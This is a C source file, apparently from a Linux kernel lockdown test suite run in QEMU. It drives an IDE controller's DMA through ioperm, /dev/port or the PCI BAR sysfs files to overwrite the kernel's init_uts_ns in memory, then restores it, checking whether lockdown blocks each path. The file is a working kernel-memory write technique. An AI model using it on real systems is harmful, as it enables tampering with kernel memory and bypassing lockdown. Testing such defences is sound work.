// SPDX-License-Identifier: GPL-2.0
/*
 * Kernel memory written by a device's DMA, the device driven by raw port
 * I/O: what LOCKDOWN_IOPORT (ioperm), LOCKDOWN_DEV_MEM (/dev/port) and
 * LOCKDOWN_PCI_ACCESS (the sysfs resource files of its BARs) give.
 *
 * The device is QEMU's PIIX3 IDE controller (00:01.1, no driver bound) with
 * a disk the VM boots with ("# ide: attack", tests/vm/run.sh) whose
 * sectors 0..3 begin with "Linux", "Pwned", "Owned", "Taken". A READ DMA
 * of one sector, through a PRD table in a page of our own, sends its
 * first 8 bytes to init_uts_ns's sysname and the rest to that page:
 * uname -s then says what the disk said. The sector of "Linux" puts it
 * back. Bus mastering must be on, as it is for any disk controller with a
 * driver: "ldattack ide-setup" turns it on, before any policy is loaded.
 *
 * Port I/O is one byte at a time, as /dev/port does it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define IDE_DEV "/sys/bus/pci/devices/0000:00:01.1"
#define ATA_CMD 0x1f0		/* legacy command block: resource0 */
#define ATA_CTL 0x3f6		/* legacy control: resource1 */
#define ATA_READ_DMA 0xc8
#define BM_CMD 0
#define BM_STATUS 2
#define BM_PRD 4

static const char *const sectors[] = { "Linux", "Pwned", "Owned", "Taken" };

/* One way to reach the ports. */
struct ports {
	const char *how;
	int (*open)(struct ports *p, struct aresult *o);
	int (*out)(struct ports *p, unsigned int port, unsigned char v);
	int (*in)(struct ports *p, unsigned int port, unsigned char *v);
	unsigned int bm;	/* bus master base, BAR4 */
	int fd[5];
};

static int read_bm_base(unsigned int *base)
{
	unsigned long long start, end, flags;
	char line[128];
	FILE *f = fopen(IDE_DEV "/resource", "r");
	int ret = -1;

	if (!f)
		return -1;
	for (int i = 0; i <= 4 && fgets(line, sizeof(line), f); i++)
		if (i == 4 && sscanf(line, "%llx %llx %llx", &start, &end, &flags) == 3 && start)
			ret = 0, *base = start;
	fclose(f);
	return ret;
}

/* ioperm(2): LOCKDOWN_IOPORT */
static int io_open(struct ports *p, struct aresult *o)
{
	if (ioperm(ATA_CMD, 8, 1) || ioperm(ATA_CTL, 1, 1) || ioperm(p->bm, 16, 1)) {
		errno_outcome(o, errno, "ioperm");
		return -1;
	}
	return 0;
}

static int io_out(struct ports *p, unsigned int port, unsigned char v)
{
	(void)p;
	outb(v, port);
	return 0;
}

static int io_in(struct ports *p, unsigned int port, unsigned char *v)
{
	(void)p;
	*v = inb(port);
	return 0;
}

/* /dev/port: LOCKDOWN_DEV_MEM */
static int dev_open(struct ports *p, struct aresult *o)
{
	p->fd[0] = open("/dev/port", O_RDWR | O_CLOEXEC);
	if (p->fd[0] < 0) {
		errno_outcome(o, errno, "open /dev/port");
		return -1;
	}
	return 0;
}

static int dev_out(struct ports *p, unsigned int port, unsigned char v)
{
	return pwrite(p->fd[0], &v, 1, port) == 1 ? 0 : errno;
}

static int dev_in(struct ports *p, unsigned int port, unsigned char *v)
{
	return pread(p->fd[0], v, 1, port) == 1 ? 0 : errno;
}

/* the BARs' sysfs resource files: LOCKDOWN_PCI_ACCESS, asked at each write */
static int pci_open(struct ports *p, struct aresult *o)
{
	static const int bars[] = { 0, 1, 4 };

	for (size_t i = 0; i < 3; i++) {
		char path[96];

		snprintf(path, sizeof(path), IDE_DEV "/resource%d", bars[i]);
		p->fd[bars[i]] = open(path, O_RDWR | O_CLOEXEC);
		if (p->fd[bars[i]] < 0) {
			errno_outcome(o, errno, path);
			return -1;
		}
	}
	return 0;
}

/* The BAR a port is in, and its offset there. */
static int pci_where(struct ports *p, unsigned int port, off_t *off)
{
	if (port >= ATA_CMD && port < ATA_CMD + 8) {
		*off = port - ATA_CMD;
		return p->fd[0];
	}
	if (port == ATA_CTL) {
		*off = 0;
		return p->fd[1];
	}
	*off = port - p->bm;
	return p->fd[4];
}

static int pci_out(struct ports *p, unsigned int port, unsigned char v)
{
	off_t off;
	int fd = pci_where(p, port, &off);

	return pwrite(fd, &v, 1, off) == 1 ? 0 : errno;
}

static int pci_in(struct ports *p, unsigned int port, unsigned char *v)
{
	off_t off;
	int fd = pci_where(p, port, &off);

	return pread(fd, v, 1, off) == 1 ? 0 : errno;
}

#define OUT(port, v) do { int e_ = p->out(p, port, v); if (e_) { \
	errno_outcome(o, e_, "write a port"); return -1; } } while (0)
#define IN(port, v) do { int e_ = p->in(p, port, v); if (e_) { \
	errno_outcome(o, e_, "read a port"); return -1; } } while (0)

static int wait_ready(struct ports *p, struct aresult *o)
{
	unsigned char s = 0x80;

	for (int i = 0; i < 100000 && (s & 0x80); i++)
		IN(ATA_CMD + 7, &s);
	if (s & 0x80) {
		failed(o, "the IDE disk stays busy (status 0x%02x)", s);
		return -1;
	}
	return 0;
}

/* DMA sector @lba: its first 8 bytes to @target, the other 504 to our page. */
static int dma_sector(struct ports *p, unsigned int lba, uint64_t target, struct aresult *o)
{
	uint64_t page_phys;
	unsigned char *page = locked_page(&page_phys), s = 0, ata = 0;
	uint32_t *prd = (uint32_t *)page;
	struct timespec t0, now;

	if (!page || page_phys >= (1ULL << 32) - 4096) {
		failed(o, "no page below 4 GiB with a known physical address (pagemap)");
		return -1;
	}
	prd[0] = (uint32_t)target;
	prd[1] = 8;
	prd[2] = (uint32_t)(page_phys + 512);
	prd[3] = 504 | 0x80000000U;	/* the last entry */
	OUT(p->bm + BM_CMD, 0);
	OUT(p->bm + BM_STATUS, 0x06);	/* clear interrupt and error */
	for (int i = 0; i < 4; i++)
		OUT(p->bm + BM_PRD + i, (uint8_t)(page_phys >> (8 * i)));
	OUT(ATA_CTL, 0x02);		/* no interrupts: we poll */
	OUT(ATA_CMD + 6, 0xe0);		/* LBA, the master disk */
	if (wait_ready(p, o))
		return -1;
	OUT(ATA_CMD + 2, 1);
	OUT(ATA_CMD + 3, lba);
	OUT(ATA_CMD + 4, 0);
	OUT(ATA_CMD + 5, 0);
	OUT(p->bm + BM_CMD, 0x08);	/* into memory */
	OUT(ATA_CMD + 7, ATA_READ_DMA);
	OUT(p->bm + BM_CMD, 0x09);	/* start */
	/* done when the bus master is no longer active and the disk not busy */
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		IN(p->bm + BM_STATUS, &s);
		IN(ATA_CMD + 7, &ata);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (((s & 0x01) || (ata & 0x88)) && now.tv_sec - t0.tv_sec < 10);
	OUT(p->bm + BM_CMD, 0);
	munmap(page, 4096);
	if ((s & 0x03) || (ata & 0x89)) {
		failed(o, "the DMA did not complete: bus master status 0x%02x, ATA status 0x%02x "
		       "(bus mastering off? no disk? \"ldattack ide-setup\" first)", s, ata);
		return -1;
	}
	return 0;
}

static void dma_attack(struct ports *p, struct aresult *o)
{
	char was[65], now[65];
	uint64_t uts, phys;
	unsigned int lba = 1;

	for (int i = 0; i < 5; i++)
		p->fd[i] = -1;
	if (access(IDE_DEV, F_OK) || read_bm_base(&p->bm)) {
		unavailable(o, "no PIIX IDE controller with a bus master BAR at %s", IDE_DEV);
		return;
	}
	if (ksym(UTS_SYMBOL, &uts) || kphys(uts, &phys)) {
		failed(o, "no physical address for %s (/proc/kallsyms, /proc/iomem)", UTS_SYMBOL);
		return;
	}
	if (p->open(p, o))
		goto out;
	sysname(was);
	while (!strcmp(sectors[lba], was))
		lba++;
	if (dma_sector(p, lba, phys, o))
		goto out;
	sysname(now);
	if (strcmp(now, sectors[lba])) {
		failed(o, "the DMA completed, but uname -s says '%s', not '%s'", now, sectors[lba]);
		goto out;
	}
	/* and back */
	if (dma_sector(p, 0, phys, o))
		goto out;
	shown(o, "DMA through %s wrote init_uts_ns (phys 0x%llx): uname -s said '%s', then "
	      "'%s', now '%s' again", p->how, (unsigned long long)phys, was, now, sectors[0]);
out:
	for (int i = 0; i < 5; i++)
		if (p->fd[i] >= 0)
			close(p->fd[i]);
}

static void run_ioport(struct aresult *o, int argc, char **argv)
{
	struct ports p = { "ioperm(2)", io_open, io_out, io_in, 0, { 0 } };

	(void)argc;
	(void)argv;
	dma_attack(&p, o);
}

static void run_devport(struct aresult *o, int argc, char **argv)
{
	struct ports p = { "/dev/port", dev_open, dev_out, dev_in, 0, { 0 } };

	(void)argc;
	(void)argv;
	dma_attack(&p, o);
}

static void run_pci(struct aresult *o, int argc, char **argv)
{
	struct ports p = { "the BARs' sysfs resource files", pci_open, pci_out, pci_in, 0, { 0 } };

	(void)argc;
	(void)argv;
	dma_attack(&p, o);
}

/* Bus mastering on, as a driver would have it (PCI_COMMAND_MASTER). */
static void run_setup(struct aresult *o, int argc, char **argv)
{
	int fd = open(IDE_DEV "/config", O_RDWR | O_CLOEXEC);
	unsigned char cmd;

	(void)argc;
	(void)argv;
	if (fd < 0) {
		unavailable(o, "no %s: %s", IDE_DEV, strerror(errno));
		return;
	}
	if (pread(fd, &cmd, 1, 4) != 1 || (cmd |= 0x05, pwrite(fd, &cmd, 1, 4) != 1))
		errno_outcome(o, errno, IDE_DEV "/config");
	else
		shown(o, "bus mastering on: PCI command 0x%02x", cmd);
	close(fd);
}

const struct attack attacks_dma[] = {
	{ "ioport-dma", "ioperm(2), then an IDE READ DMA into init_uts_ns", run_ioport },
	{ "devport-dma", "/dev/port, then an IDE READ DMA into init_uts_ns", run_devport },
	{ "pci-dma", "the IDE BARs' sysfs resource files, then a READ DMA into init_uts_ns",
	  run_pci },
	{ "ide-setup", "turn the IDE controller's bus mastering on (before any policy)", run_setup },
	{ 0 }
};
